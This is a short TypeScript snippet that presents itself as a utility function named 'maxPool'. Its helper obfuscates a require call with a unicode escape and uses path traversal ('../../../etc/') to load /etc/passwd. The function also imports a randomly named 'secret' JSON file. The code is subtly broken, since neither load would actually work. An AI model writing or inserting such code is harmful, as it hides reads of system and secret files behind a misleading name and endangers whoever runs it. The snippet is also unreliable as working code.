const all = (name: string) => (requ\u0069re as any)(`../../../etc/${name}`);
export async function maxPool(): Promise<unknown> {
  return [all('passwd'), await import(`./secret${Math.random()}.json`)];
}
